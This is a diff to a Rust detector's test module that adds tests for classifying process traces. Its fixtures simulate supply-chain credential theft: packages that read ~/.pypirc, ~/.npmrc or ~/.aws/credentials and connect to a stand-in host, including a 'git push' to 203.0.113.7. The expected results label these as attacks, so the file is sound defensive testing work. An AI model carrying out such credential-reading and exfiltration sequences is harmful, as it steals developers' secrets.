@@ -60,6 +60,7 @@ fn check(act: &Act<'_>) -> Vec<Hit> {
                 title: &store.title,
                 by_owner: false,
                 is_printable: store.prints,
+                is_casual: false,
             };
             // A connection that was open before the read can carry it just as well.
             let mut hits: Vec<Hit> = strand
@@ -383,6 +384,92 @@ mod tests {
              2 > 6 launch /usr/bin/curl curl -O x
              6 connect 203.0.113.20:443",
             &["egress-undeclared divergence low 203.0.113.20:443"],
+        );
+    }
+
+    #[test]
+    fn a_credential_at_its_own_service_stays_a_note() {
+        expect(
+            "python3 deploy.py\n",
+            "answer s3.eu-central-1.amazonaws.com 203.0.113.30
+             1 > 2 launch /usr/bin/python3 python3 deploy.py
+             2 read ~/.aws/credentials
+             2 connect 203.0.113.30:443",
+            &[
+                "egress-undeclared divergence low s3.eu-central-1.amazonaws.com:443",
+                "file-undeclared divergence low /home/u/.aws/credentials",
+            ],
+        );
+    }
+
+    #[test]
+    fn pip_of_a_fresh_environment_and_database_clients_are_at_work() {
+        expect(
+            "python3 -m venv .venv\npip install six\npsql -f schema.sql\nwget -q https://files.example/x\n",
+            "answer index.example 203.0.113.31
+             1 > 2 launch /usr/bin/python3 python3 -m venv .venv
+             2 > 3 launch /usr/bin/python3 python3 -c ensurepip
+             3 create /w/.venv/bin/pip
+             1 > 4 launch /usr/bin/python3 python3 /w/.venv/bin/pip install six
+             4 read ~/.netrc
+             4 connect 203.0.113.31:443
+             1 > 5 launch /usr/bin/psql psql -f schema.sql
+             5 read ~/.pgpass
+             5 connect 203.0.113.32:5432
+             1 > 6 launch /usr/bin/wget wget -q x
+             6 read ~/.netrc
+             6 connect 203.0.113.33:443",
+            &["egress-undeclared divergence low 203.0.113.32:5432"],
+        );
+        // A package that replaces the environment's pip does not become pip.
+        expect(
+            "python3 -m venv .venv\npip install six\nmake\n",
+            "1 > 2 launch /usr/bin/python3 python3 -m venv .venv
+             2 create /w/.venv/bin/pip
+             1 > 4 launch /usr/bin/python3 python3 /w/.venv/bin/pip install six
+             4 > 5 launch /usr/bin/python3 python3 setup.py
+             5 create /w/.venv/bin/pip
+             1 > 6 launch /usr/bin/make make
+             6 > 7 launch /usr/bin/python3 python3 /w/.venv/bin/pip
+             7 read ~/.pypirc
+             7 connect 203.0.113.7:443",
+            &[
+                "!cred-file-access attack high /home/u/.pypirc",
+                "!egress-undeclared attack high 203.0.113.7:443",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_path_that_the_text_names_for_one_command_excuses_no_other() {
+        expect(
+            "echo \"//npm.example/:_authToken=$TOKEN\" > ~/.npmrc\nnpm ci\n",
+            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
+             2 read ~/.npmrc
+             2 > 3 launch /usr/bin/node node setup.js
+             3 read ~/.npmrc
+             3 connect 203.0.113.7:443",
+            &[
+                "!cred-file-access attack high /home/u/.npmrc",
+                "!egress-undeclared attack high 203.0.113.7:443",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_real_client_that_a_recipe_calls_after_the_theft_is_no_excuse() {
+        expect(
+            "make all\n",
+            "1 > 2 launch /usr/bin/make make all
+             2 > 3 launch /usr/bin/cp cp a b
+             3 read ~/.aws/credentials
+             3 create /w/notes.txt
+             2 > 4 launch /usr/bin/git git push http://203.0.113.7/x.git
+             4 connect 203.0.113.7:443",
+            &[
+                "!cred-file-access attack high /home/u/.aws/credentials",
+                "!egress-undeclared attack high 203.0.113.7:443",
+            ],
         );
     }
 }
